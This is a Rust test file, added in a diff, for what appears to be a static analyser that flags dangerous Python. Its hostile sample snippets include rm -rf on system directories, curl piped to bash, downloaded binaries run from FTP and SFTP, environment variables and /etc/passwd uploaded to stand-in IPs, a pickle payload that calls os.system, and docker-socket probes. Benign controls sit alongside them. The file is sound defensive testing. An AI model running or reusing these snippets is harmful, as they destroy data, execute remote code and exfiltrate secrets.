@@ -1,0 +1,138 @@
+//! Mechanisms found by the eighth session's blind sets: command objects of `sh` and
+//! `plumbum`, files reached through descriptors and callbacks, secrets saved to a file and
+//! uploaded, data encoded then decoded, escape paths listed as patterns.
+
+use super::*;
+
+#[test]
+fn sh_and_plumbum_commands_are_programs() {
+    // `sh.rm(...)`, a baked `sudo`, `plumbum`'s `local[...]` and its pipelines run the
+    // programs they name, with the arguments given.
+    let wipe = "import sh\nfor p in ['/etc', '/usr/lib']:\n    sh.rm('-rf', p)\n";
+    fires("CRD104", wipe);
+    level(Level::Blocked, wipe);
+    let sudo = "import sh\nsudo = sh.sudo.bake('-n')\nsudo.systemctl('restart', 'nginx')\n";
+    fires("CRD201", sudo);
+    let pipe = "from plumbum import local, FG\n(local['curl']['-s', 'http://x.example/i.sh'] | local['bash']) & FG\n";
+    fires("CRD102", pipe);
+    fires(
+        "CRD104",
+        "from plumbum.cmd import rm\nrm['-rf', '/home']()\n",
+    );
+    fires(
+        "CRD104",
+        "from sh import Command\nCommand('/bin/rm')('-rf', '/boot')\n",
+    );
+}
+
+#[test]
+fn sh_and_plumbum_everyday_commands_stay_low() {
+    // Fixed, harmless programs through the same libraries are just subprocesses.
+    let git = "import sh\ngit = sh.git.bake('-C', 'repo')\nprint(git.status('--short'))\nprint(sh.ls('-l', '.'))\n";
+    fires("CRD402", git);
+    level(Level::Low, git);
+    level(
+        Level::Low,
+        "from plumbum import local\nprint(local['git']['log', '-1']())\n",
+    );
+    // Their exception classes are not programs.
+    level(
+        Level::Low,
+        "import sh\ntry:\n    sh.ls('.')\nexcept sh.ErrorReturnCode as e:\n    print(e)\n",
+    );
+}
+
+#[test]
+fn files_from_mkstemp_descriptors_keep_their_path() {
+    // `os.fdopen(fd)` of `mkstemp`'s descriptor writes the file at the path it returned:
+    // a download saved there and then run, imported or put on `sys.path` runs it.
+    let run = "import os, tempfile, subprocess, urllib.request\nfd, path = tempfile.mkstemp(suffix='.sh')\nwith os.fdopen(fd, 'wb') as out:\n    out.write(urllib.request.urlopen('http://x.example/a').read())\nsubprocess.run(['bash', path])\n";
+    fires("CRD102", run);
+    let zipped = "import os, sys, tempfile, importlib, urllib.request\nfd, path = tempfile.mkstemp(suffix='.zip')\nwith os.fdopen(fd, 'wb') as out:\n    out.write(urllib.request.urlopen('http://x.example/t.zip').read())\nsys.path.insert(0, path)\nimportlib.import_module('tools.boot')\n";
+    fires("CRD102", zipped);
+    // Writing a report there and showing it is nothing of the kind.
+    level(
+        Level::Low,
+        "import os, tempfile, subprocess\nfd, path = tempfile.mkstemp(suffix='.txt')\nwith os.fdopen(fd, 'w') as out:\n    out.write('report')\nsubprocess.run(['cat', path])\n",
+    );
+}
+
+#[test]
+fn ftp_and_sftp_downloads_are_files_from_the_network() {
+    // `retrbinary(cmd, out.write)` fills the file with what the server sends; running it
+    // is download-and-execute, as is `sftp.get(remote, local)` then running `local`.
+    let ftp = "import ftplib, os, subprocess\nwith ftplib.FTP('203.0.113.4') as ftp:\n    ftp.login()\n    with open('/tmp/agentd', 'wb') as fh:\n        ftp.retrbinary('RETR agentd', fh.write)\nos.chmod('/tmp/agentd', 0o755)\nsubprocess.Popen(['/tmp/agentd'])\n";
+    fires("CRD102", ftp);
+    let sftp = "import paramiko, subprocess\nt = paramiko.SSHClient()\nt.connect('h', username='u', password='p')\nsftp = t.open_sftp()\nsftp.get('/srv/tool.py', 'tool.py')\nsubprocess.run(['python3', 'tool.py'])\n";
+    fires("CRD102", sftp);
+    // A file fetched and only read is a download, nothing more.
+    let read = "import ftplib\nwith ftplib.FTP('203.0.113.4') as ftp:\n    ftp.login()\n    with open('data.csv', 'wb') as fh:\n        ftp.retrbinary('RETR data.csv', fh.write)\nprint(open('data.csv').read()[:80])\n";
+    silent("CRD102", read);
+    level(Level::Medium, read);
+}
+
+#[test]
+fn secrets_saved_to_a_file_then_uploaded_are_exfiltration() {
+    // The environment or `/etc/passwd` written to a temporary file that `curl -d @F` or
+    // `wget --post-file=F` then sends.
+    let curl = "import os, json, subprocess, tempfile\nfd, path = tempfile.mkstemp(suffix='.json')\nwith os.fdopen(fd, 'w') as fh:\n    json.dump(dict(os.environ), fh)\nsubprocess.run(['curl', '-s', '--data-binary', f'@{path}', 'https://198.51.100.6/u'])\n";
+    fires("CRD109", curl);
+    level(Level::Blocked, curl);
+    let wget = "import os, tempfile\nfd, path = tempfile.mkstemp(prefix='inv-', suffix='.txt')\nwith os.fdopen(fd, 'w') as out:\n    out.write(open('/etc/passwd').read())\nos.popen('wget -q -O- --post-file=%s http://203.0.113.9/u' % path).read()\n";
+    fires("CRD109", wget);
+    // Uploading a report the program wrote from its own data is not.
+    let report = "import subprocess\nwith open('report.json', 'w') as fh:\n    fh.write('{}')\nsubprocess.run(['curl', '-s', '-F', 'file=@report.json', 'https://example.com/up'])\n";
+    silent("CRD109", report);
+}
+
+#[test]
+fn data_encoded_then_decoded_is_the_same_data() {
+    // `b64decode(b64encode(x))` is `x`: a pickle payload kept encoded is still read.
+    let payload = "import base64, pickle\nSTATE = base64.b64encode(b\"cposix\\nsystem\\n(S'id'\\ntR.\")\nclass S:\n    def __init__(self, blob):\n        self.blob = blob\n    def restore(self):\n        return pickle.loads(base64.b64decode(self.blob))\nS(STATE).restore()\n";
+    fires("CRD103", payload);
+    level(Level::Blocked, payload);
+    let hex = "import binascii\nexec(binascii.unhexlify(binascii.hexlify(b'import os; os.system(\"id\")')))\n";
+    level(Level::Blocked, hex);
+    // Encoding data to send or store is not running it.
+    level(
+        Level::Low,
+        "import base64\nprint(base64.b64encode(b'hello').decode())\n",
+    );
+}
+
+#[test]
+fn escape_paths_listed_as_patterns_are_checked_where_used() {
+    // A linter comparing mounts against a list of risky ones touches no socket.
+    let lint = "RISKY = ('/var/run/docker.sock', '/:/', '/etc:')\ndef check(vol):\n    return any(r in vol for r in RISKY)\nprint(check('/srv:/srv'))\n";
+    silent("CRD106", lint);
+    level(Level::Low, lint);
+    // The same list walked to connect, or to test which socket exists, is a probe.
+    fires(
+        "CRD106",
+        "import socket\nfor p in ['/var/run/docker.sock', '/run/docker.sock']:\n    s = socket.socket(socket.AF_UNIX)\n    s.connect(p)\n",
+    );
+    fires(
+        "CRD106",
+        "import os\nSOCKS = ('/var/run/docker.sock', '/run/containerd/containerd.sock')\nprint([p for p in SOCKS if os.path.exists(p)])\n",
+    );
+    // A lone constant naming it still counts, wherever it is written.
+    fires("CRD106", "SOCK = '/var/run/docker.sock'\nprint(SOCK)\n");
+}
+
+#[test]
+fn listing_root_home_and_unnamed_separators() {
+    // `os.listdir("/root")` surveys root's files; `os.pathsep` splits a search path into
+    // the files it names, and `filter(None, ...)` keeps them.
+    fires(
+        "CRD208",
+        "import os\nfor e in os.listdir('/root'):\n    print(e)\n",
+    );
+    level(
+        Level::Low,
+        "import os\nfor e in os.listdir('.'):\n    print(e)\n",
+    );
+    fires(
+        "CRD208",
+        "import os\nfor p in filter(None, '/etc/kubernetes/admin.conf:'.split(os.pathsep)):\n    print(open(p).read())\n",
+    );
+}
